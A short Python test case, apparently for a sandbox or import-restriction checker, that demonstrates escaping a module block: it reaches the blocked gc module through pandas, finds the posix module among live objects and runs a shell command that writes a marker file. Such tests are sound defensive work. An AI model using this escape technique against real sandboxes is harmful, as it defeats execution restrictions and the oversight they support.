# rule: module_reexport
# marker: pwned_f2_module
# Family 2: a blocked module (gc) reached as an attribute of an allowed one,
# then used to find the os module among live objects.
import pandas.core.generic as g

mods = [o for o in g.gc.get_objects() if type(o).__name__ == "module" and getattr(o, "__name__", "") == "posix"]
mods[0].system("echo ran > pwned_f2_module")
